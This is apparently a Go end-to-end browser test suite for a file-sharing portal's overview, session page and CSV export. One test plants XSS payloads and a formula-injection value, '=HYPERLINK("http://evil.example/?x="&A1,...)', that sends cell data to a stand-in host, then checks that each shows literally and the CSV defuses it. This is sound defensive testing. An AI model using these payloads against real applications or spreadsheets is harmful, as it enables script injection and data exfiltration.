package e2e

import (
	"encoding/csv"
	"fmt"
	"io"
	"net/http"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"
	"github.com/google/uuid"
)

// Overview journeys (issue 8): sort, pages and an expanded row; the empty
// state; one session's page and its CSV; hostile strings shown literally.

// rowDownloads is the "used" part of the Downloads column, row by row.
const rowDownloads = `[...document.querySelectorAll('[data-testid="session-row"] [data-testid="downloads"]')].map(e => parseInt(e.textContent, 10))`

// TestOverviewSortPageExpand: alice (13 sessions once five are added, so two
// pages of 10) sorts by downloads both ways, pages forward and back, and
// opens a row's downloads and payments.
func TestOverviewSortPageExpand(t *testing.T) {
	e := newEnv(t)
	alice := e.customer("acme", "alice@example.com")
	e.s.Exec(`INSERT INTO file_share_sessions (workspace_id, customer_id, short_slug, long_slug, status, title, file_name,
			file_size_bytes, max_downloads, download_count, price_cents)
		SELECT workspace_id, id, 'e2e-' || g, 'e2e-long-' || g, 'active', 'Extra file ' || g, 'extra-' || g || '.bin',
			1000 * g, 20, 10 + g, 500
		FROM customers, generate_series(1, 5) g WHERE id = $1`, alice)
	tb := e.tab()
	tb.signInCookie(alice, uuid.Nil)
	tb.open("/acme/portal/overview")
	if n := tb.count(tid("session-row")); n != 10 {
		t.Fatalf("page 1 shows %d rows, want 10", n)
	}

	// Sort by downloads, once with the keyboard (focus the header link,
	// Enter) and once with the mouse.
	sortBy := func(dir string, keyboard bool) []int {
		t.Helper()
		if keyboard {
			tb.run(chromedp.Focus(chromedp.CSS(tid("sort-downloads") + " a")))
			tb.press("\r")
		} else {
			tb.run(chromedp.Click(chromedp.CSS(tid("sort-downloads") + " a")))
		}
		tb.waitFor(fmt.Sprintf(`document.querySelector('[data-testid="sort-downloads"]').getAttribute('aria-sort') === %q`, dir))
		// Focus stays on the header the user pressed, not lost to <body>.
		tb.waitFor(`document.activeElement !== document.body`) // refocused after the swap settles
		if got := eval[string](tb, `(document.activeElement.closest('th') || {dataset: {}}).dataset.testid || document.activeElement.tagName`); got != "sort-downloads" {
			t.Errorf("after sorting %s the focus is on %q, want the Downloads header", dir, got)
		}
		return eval[[]int](tb, rowDownloads)
	}
	desc := sortBy("descending", true)
	if !strings.Contains(tb.path(), "sorting=-download_count") {
		t.Errorf("the sort did not update the address: %s", tb.path())
	}
	if len(desc) != 10 || desc[0] != 15 {
		t.Errorf("downloads descending starts %v, want 15 (the most downloaded)", desc)
	}
	for i := 1; i < len(desc); i++ {
		if desc[i] > desc[i-1] {
			t.Errorf("downloads descending out of order: %v", desc)
			break
		}
	}
	if n := tb.count(`th[aria-sort]`); n != 1 {
		t.Errorf("%d headers carry aria-sort, want only the sort column", n)
	}
	asc := sortBy("ascending", false)
	if !strings.Contains(tb.path(), "sorting=download_count") {
		t.Errorf("the second sort did not update the address: %s", tb.path())
	}
	for i := 1; i < len(asc); i++ {
		if asc[i] < asc[i-1] {
			t.Errorf("downloads ascending out of order: %v", asc)
			break
		}
	}

	// Pages keep the sort.
	tb.run(chromedp.Click(chromedp.CSS(tid("page-next"))))
	tb.waitFor(`location.search.includes('page=2')`)
	tb.waitFor(`document.querySelectorAll('[data-testid="session-row"]').length === 3`)
	if got := eval[string](tb, `document.querySelector('[aria-current="page"][data-testid^="page-"]').textContent`); got != "2" {
		t.Errorf("the pager marks page %q as current, want 2", got)
	}
	if p := tb.path(); !strings.Contains(p, "sorting=download_count") {
		t.Errorf("page 2 lost the sort: %s", p)
	}
	if last := eval[[]int](tb, rowDownloads); len(last) != 3 || last[2] != 15 {
		t.Errorf("page 2 ascending ends with %v, want the 3 most downloaded (…15)", last)
	}
	tb.check("overview (sorted, page 2)")
	tb.run(chromedp.Click(chromedp.CSS(tid("page-prev"))))
	tb.waitFor(`!location.search.includes('page=2') && document.querySelectorAll('[data-testid="session-row"]').length === 10`)

	// Expand the row of a session that has downloads and payments.
	var sid uuid.UUID
	if err := e.pool.QueryRow(t.Context(), `SELECT s.id FROM file_share_sessions s WHERE s.customer_id = $1
		AND EXISTS (SELECT 1 FROM file_share_downloads d WHERE d.session_id = s.id)
		AND EXISTS (SELECT 1 FROM file_share_payments p WHERE p.session_id = s.id) LIMIT 1`, alice).Scan(&sid); err != nil {
		t.Fatal(err)
	}
	downloads := e.s.Count(`SELECT count(*) FROM file_share_downloads WHERE session_id = $1 AND deleted_at IS NULL`, sid)
	payments := e.s.Count(`SELECT count(*) FROM file_share_payments WHERE session_id = $1 AND deleted_at IS NULL`, sid)
	if tb.count(fmt.Sprintf(`[data-id="%s"]`, sid)) == 0 {
		tb.open("/acme/portal/overview?limit=20") // not on the first page of this sort
	}
	toggle := fmt.Sprintf(`[data-id="%s"] [data-testid="activity-toggle"]`, sid)
	if got := tb.axExpanded(toggle); got != "false" {
		t.Errorf("the closed row toggle is exposed with expanded=%q, want false", got)
	}
	tb.run(chromedp.Click(chromedp.CSS(toggle)))
	tb.waitFor(fmt.Sprintf(`!!document.querySelector('[data-id="%s"] .activity-body [data-testid="activity"]')`, sid))
	if got := tb.axExpanded(toggle); got != "true" {
		t.Errorf("the open row toggle is exposed with expanded=%q, want true", got)
	}
	inRow := fmt.Sprintf(`[data-id="%s"] `, sid)
	if n := tb.count(inRow + tid("download")); n != downloads {
		t.Errorf("the expanded row lists %d downloads, want %d", n, downloads)
	}
	if n := tb.count(inRow + tid("payment")); n != payments {
		t.Errorf("the expanded row lists %d payments, want %d", n, payments)
	}
	if !eval[bool](tb, fmt.Sprintf(`document.activeElement === document.querySelector(%q)`, toggle)) {
		t.Errorf("after expanding, focus is on %q, want the toggle", eval[string](tb, `document.activeElement.outerHTML.slice(0, 80)`))
	}
	tb.check("overview (row expanded)")
}

// TestOverviewEmptyState: a customer without sessions is told what happens
// next instead of being shown an empty table.
func TestOverviewEmptyState(t *testing.T) {
	e := newEnv(t)
	bob := e.customer("acme", "bob@example.com")
	e.s.Exec(`DELETE FROM file_share_sessions WHERE customer_id = $1`, bob)
	tb := e.tab()
	tb.signInCookie(bob, uuid.Nil)
	tb.open("/acme/portal/overview")
	if tb.count(tid("sessions")) != 0 || tb.count(tid("pager")) != 0 {
		t.Errorf("the empty overview still shows a table or a pager")
	}
	text := tb.text(tid("empty-state"))
	if !strings.Contains(text, "Acme Inc.") || !strings.Contains(strings.ToLower(text), "contact") {
		t.Errorf("the empty state does not say what to do next: %q", text)
	}
	if tb.count(tid("empty-state")+" a[href]") == 0 {
		t.Errorf("the empty state offers no way to reach the workspace")
	}
	tb.check("overview (empty)")
}

// TestSessionDetailAndCSV: a session's own page with hostile strings in its
// title, file name, the customer's name and a buyer's name (shown literally,
// no script runs), then its CSV export (formula injection defused).
func TestSessionDetailAndCSV(t *testing.T) {
	e := newEnv(t)
	alice := e.customer("acme", "alice@example.com")
	var sid uuid.UUID
	if err := e.pool.QueryRow(t.Context(), `SELECT s.id FROM file_share_sessions s WHERE s.customer_id = $1
		AND EXISTS (SELECT 1 FROM file_share_downloads d WHERE d.session_id = s.id)
		AND EXISTS (SELECT 1 FROM file_share_payments p WHERE p.session_id = s.id) ORDER BY s.created_at DESC LIMIT 1`, alice).Scan(&sid); err != nil {
		t.Fatal(err)
	}
	const (
		title    = `<img src=x onerror=alert(1)>`
		fileName = `"><script>alert(2)</script>.pdf`
		name     = `"><img src=x onerror=alert(3)>`
		buyer    = `=HYPERLINK("http://evil.example/?x="&A1,"Click")`
	)
	e.s.Exec(`UPDATE file_share_sessions SET title = $2, file_name = $3 WHERE id = $1`, sid, title, fileName)
	e.s.Exec(`UPDATE customers SET name = $2 WHERE id = $1`, alice, name)
	e.s.Exec(`UPDATE file_share_payments SET buyer_name = $2, buyer_email = $3
		WHERE id = (SELECT id FROM file_share_payments WHERE session_id = $1 ORDER BY created_at LIMIT 1)`, sid, buyer, "+cmd@example.com")
	downloads := e.s.Count(`SELECT count(*) FROM file_share_downloads WHERE session_id = $1 AND deleted_at IS NULL`, sid)
	payments := e.s.Count(`SELECT count(*) FROM file_share_payments WHERE session_id = $1 AND deleted_at IS NULL`, sid)

	tb := e.tab()
	tb.signInCookie(alice, uuid.Nil)
	tb.open("/acme/portal/overview")
	link := fmt.Sprintf(`[data-id="%s"] [data-testid="session-link"]`, sid)
	if got := tb.text(link); got != title {
		t.Errorf("the overview shows the title as %q, want it literally", got)
	}
	if got := tb.text(".sidenav .who strong"); got != name {
		t.Errorf("the navigation shows the name as %q, want it literally", got)
	}
	// The expanded row brings the buyer's name in through an htmx swap.
	toggle := fmt.Sprintf(`[data-id="%s"] [data-testid="activity-toggle"]`, sid)
	tb.run(chromedp.Click(chromedp.CSS(toggle)))
	tb.waitFor(fmt.Sprintf(`!!document.querySelector('[data-id="%s"] [data-testid="payment"]')`, sid))
	if !strings.Contains(eval[string](tb, fmt.Sprintf(`document.querySelector('[data-id="%s"] .activity-body').innerText`, sid)), buyer) {
		t.Errorf("the expanded row does not show the buyer's name literally")
	}
	if n := tb.count(`main img, main script, .sidenav img`); n != 0 {
		t.Errorf("hostile strings became %d elements", n)
	}
	tb.clean("overview (hostile strings)") // fails on any dialog or failed load of "x"

	tb.clickNav(link)
	if p := tb.path(); p != "/acme/portal/sessions/"+sid.String() {
		t.Fatalf("the session link went to %s", p)
	}
	if got := tb.text("h1"); got != title {
		t.Errorf("the session page heading is %q, want the title literally", got)
	}
	if got := eval[string](tb, `document.title`); !strings.HasPrefix(got, title) {
		t.Errorf("the document title is %q", got)
	}
	if n := tb.count(tid("download")); n != downloads {
		t.Errorf("the session page lists %d downloads, want %d", n, downloads)
	}
	if n := tb.count(tid("payment")); n != payments {
		t.Errorf("the session page lists %d payments, want %d", n, payments)
	}
	if !strings.Contains(eval[string](tb, `document.querySelector('[data-testid="session-detail"]').innerText`), buyer) {
		t.Errorf("the buyer's name is not shown literally")
	}
	if n := tb.count(`main img, main script`); n != 0 {
		t.Errorf("hostile strings became %d elements on the session page", n)
	}
	tb.check("session detail")

	href := eval[string](tb, `document.querySelector('[data-testid="export-csv"]').getAttribute('href')`)
	if href != "/acme/portal/sessions/"+sid.String()+"/export.csv" {
		t.Fatalf("export link %q", href)
	}
	res := tb.get(href)
	body, _ := io.ReadAll(res.Body)
	if res.StatusCode != http.StatusOK || !strings.HasPrefix(res.Header.Get("Content-Type"), "text/csv") {
		t.Fatalf("CSV: %d %s", res.StatusCode, res.Header.Get("Content-Type"))
	}
	if cd := res.Header.Get("Content-Disposition"); !strings.HasPrefix(cd, "attachment;") || !strings.Contains(cd, ".csv") {
		t.Errorf("CSV Content-Disposition %q", cd)
	}
	if cc := res.Header.Get("Cache-Control"); !strings.Contains(cc, "no-store") {
		t.Errorf("CSV Cache-Control %q", cc)
	}
	rows, err := csv.NewReader(strings.NewReader(string(body))).ReadAll()
	if err != nil {
		t.Fatalf("CSV does not parse: %v\n%s", err, body)
	}
	if len(rows) != 1+downloads+payments {
		t.Errorf("CSV has %d rows, want a header, %d downloads and %d payments", len(rows), downloads, payments)
	}
	found := false
	for _, r := range rows {
		for _, cell := range r {
			if len(cell) > 0 && strings.ContainsRune("=+-@", rune(cell[0])) && !isNumberCell(cell) {
				t.Errorf("CSV cell %q starts with a formula character", cell)
			}
			if cell == "'"+buyer {
				found = true
			}
		}
	}
	if !found {
		t.Errorf("the hostile buyer name is not in the CSV as quoted text:\n%s", body)
	}
	// The CSV of another customer's session is not found.
	var other uuid.UUID
	if err := e.pool.QueryRow(t.Context(), `SELECT id FROM file_share_sessions WHERE customer_id = $1 LIMIT 1`,
		e.customer("acme", "bob@example.com")).Scan(&other); err != nil {
		t.Fatal(err)
	}
	if res := tb.get("/acme/portal/sessions/" + other.String() + "/export.csv"); res.StatusCode != http.StatusNotFound {
		t.Errorf("another customer's CSV: %d, want 404", res.StatusCode)
	}
}

// isNumberCell allows a negative amount ("-1.00"), which is data, not a
// formula.
func isNumberCell(s string) bool {
	for i, r := range s {
		if !(r >= '0' && r <= '9' || r == '.' || i == 0 && r == '-') {
			return false
		}
	}
	return true
}
